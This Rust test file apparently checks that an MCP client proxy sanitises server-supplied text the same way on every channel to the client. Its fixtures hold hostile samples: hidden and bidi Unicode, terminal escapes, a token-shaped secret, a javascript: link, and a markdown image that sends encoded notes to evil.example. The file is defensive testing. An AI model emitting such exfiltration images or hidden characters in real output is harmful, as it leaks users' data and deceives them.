//! What a server can say in one place it can say in all of them: each way to the client has the same
//! rules.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::harness::{Home, LEGACY, NO_LIMITS, Probe, Script, call, request, say, tool};
use crate::output::strings;

crate::rows![o05_every_way_to_the_client_has_the_same_rules,];

/// What is handled in each place: what is said, what of it must not arrive, and what must.
fn payloads() -> Vec<(&'static str, String, String, &'static str)> {
    let token = "ghp_Zk82nVx7Lp0Rt5WqBd31Ys94MhKjTgUcEoNa";
    let image = format!(
        "![a](https://evil.example/p?d={})",
        STANDARD.encode("the notes of alice: nothing of interest")
    );
    let own = |it: &str| it.to_owned();
    vec![
        ("hidden", own("a\u{200b}b\u{e0041}c"), own("\u{200b}"), "abc"),
        ("direction", own("a\u{202e}b"), own("\u{202e}"), "ab"),
        ("terminal", own("a\u{1b}[31mb"), own("\u{1b}"), "a"),
        ("secret", own(token), own(token), "[redacted:github-token]"),
        (
            "encoded secret",
            STANDARD.encode(format!("x {token}")),
            STANDARD.encode(format!("x {token}")),
            "",
        ),
        ("image", image.clone(), own("](https://evil"), "](unsafe:https://evil"),
        ("link", own("[a](javascript:x(1))"), own("](javascript"), "](unsafe:javascript"),
    ]
}

/// A server that says `text` wherever it can, and what it is asked so that it does.
fn says(text: &str) -> (Script, Vec<(&'static str, Value)>) {
    let result = |result: Value| say(json!({ "jsonrpc": "2.0", "id": "$id", "result": result }));
    let tell = |method: &str, params: Value| {
        say(json!({ "jsonrpc": "2.0", "method": method, "params": params }))
    };
    let ask = |id: &str, method: &str, params: Value| {
        say(json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }))
    };
    let block = json!({ "type": "text", "text": text });
    let content = json!({ "content": [block] });
    let schema = json!({ "type": "object", "properties": {
        "a": { "type": "string", "title": text, "description": text } } });
    let mut described = tool("described");
    described["description"] = json!(text);
    described["title"] = json!(text);
    described["icons"] = json!([{ "src": "https://example.org/i.png", "alt": text }]);
    let page = format!("<p>{text}</p>");
    let task = json!({ "taskId": "a", "status": "working", "statusMessage": text,
        "createdAt": "2026-11-29T19:00:00Z", "ttl": null });
    let error = json!({ "code": -32000, "message": text, "data": { "a": text } });
    let sampling = json!({ "messages": [{ "role": "user", "content": block }],
        "systemPrompt": text, "maxTokens": 10 });
    let initialize = json!({
        "protocolVersion": LEGACY,
        "capabilities": { "tools": {}, "logging": {}, "prompts": {}, "resources": {}, "completions": {} },
        "serverInfo": { "name": "fake", "title": text, "version": "1" }, "instructions": text,
    });
    let script = Script::default()
        .with(described)
        .on("initialize", [result(initialize)])
        .on_tool("result", [result(content.clone())])
        .on_tool("failure", [result(json!({ "content": [block], "isError": true }))])
        .on_tool("structured", [result(json!({ "content": [], "structuredContent": { "a": [text] } }))])
        .on_tool("link", [result(json!({ "content": [
            { "type": "resource_link", "uri": "a:b", "name": "x", "description": text }] }))])
        .on_tool("error", [say(json!({ "jsonrpc": "2.0", "id": "$id", "error": error }))])
        .on_tool("log", [tell("notifications/message", json!({ "level": "info", "data": text })), result(json!({ "content": [] }))])
        .on_tool("progress", [tell("notifications/progress", json!({ "progressToken": "$token", "progress": 1, "message": text })), result(json!({ "content": [] }))])
        .on_tool("status", [tell("notifications/tasks/status", task.clone()), result(json!({ "content": [] }))])
        .on_tool("elicitation", [ask("e", "elicitation/create", json!({ "message": text, "requestedSchema": schema })), result(json!({ "content": [] }))])
        .on_tool("sampling", [ask("s", "sampling/createMessage", sampling), result(json!({ "content": [] }))])
        .on("prompts/list", [result(json!({ "prompts": [{ "name": "p", "description": text }] }))])
        .on("prompts/get", [result(json!({ "messages": [{ "role": "user", "content": block }] }))])
        .on("resources/list", [result(json!({ "resources": [{ "uri": "a:b", "name": "x", "description": text }] }))])
        .on("resources/templates/list", [result(json!({ "resourceTemplates": [{ "uriTemplate": "a:{b}", "name": "x", "description": text }] }))])
        .on("resources/read", [result(json!({ "contents": [
            { "uri": "ui://x", "mimeType": "text/html;profile=mcp-app", "text": page }] }))])
        .on("completion/complete", [result(json!({ "completion": { "values": [text] } }))])
        .on("tasks/get", [result(task)]);
    let completed = json!({ "ref": { "type": "ref/prompt", "name": "p" },
        "argument": { "name": "a", "value": "" } });
    let mut asks = vec![
        ("tool and icon", request(1, "tools/list", json!({}))),
        ("prompt", request(2, "prompts/list", json!({}))),
        ("prompt's messages", request(3, "prompts/get", json!({ "name": "p" }))),
        ("resource", request(4, "resources/list", json!({}))),
        ("template", request(5, "resources/templates/list", json!({}))),
        ("ui:// page", request(6, "resources/read", json!({ "uri": "ui://x" }))),
        ("completion", request(7, "completion/complete", completed)),
        ("task", request(8, "tasks/get", json!({ "taskId": "a" }))),
    ];
    for name in [
        "result",
        "failure",
        "structured",
        "link",
        "error",
        "log",
        "progress",
        "status",
        "elicitation",
        "sampling",
    ] {
        let mut call = call(name, name, json!({}));
        call["params"]["_meta"] = json!({ "progressToken": "t" });
        asks.push((name, call));
    }
    (script, asks)
}

fn o05_every_way_to_the_client_has_the_same_rules() {
    for (class, said, gone, left) in payloads() {
        let home = Home::new();
        home.policy(NO_LIMITS);
        let (script, asks) = says(&format!("begin {said} end"));
        let mut probe = Probe::run(&home, &home.fake(script));
        let capabilities = json!({ "sampling": {}, "elicitation": {} });
        let params = json!({ "protocolVersion": LEGACY, "capabilities": capabilities,
            "clientInfo": { "name": "probe", "version": "1" } });
        let greeting = probe.ask(&request("i", "initialize", params));
        probe.send(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }));
        probe.ask(&request("begun", "ping", json!({})));
        let mut told = vec![("instructions", greeting)];
        for (way, ask) in asks {
            let answer = probe.ask(&ask);
            let others: Vec<_> = probe.others.drain(..).collect();
            // What is told beside an answer is what such a call is for.
            let is_beside = ["log", "progress", "status", "elicitation", "sampling"].contains(&way);
            assert_eq!(others.len(), usize::from(is_beside), "{class}, {way}: {others:?}");
            told.push((way, others.into_iter().next().unwrap_or(answer)));
        }
        for (way, message) in told {
            let texts: Vec<_> =
                strings(&message).into_iter().filter(|it| it.contains("begin ")).collect();
            assert!(!texts.is_empty(), "{class}, {way}: it did not arrive: {message}");
            for text in texts {
                assert!(!text.contains(&gone), "{class}, {way}: {text:?}");
                assert!(text.contains(left) && text.contains(" end"), "{class}, {way}: {text:?}");
            }
        }
    }
}
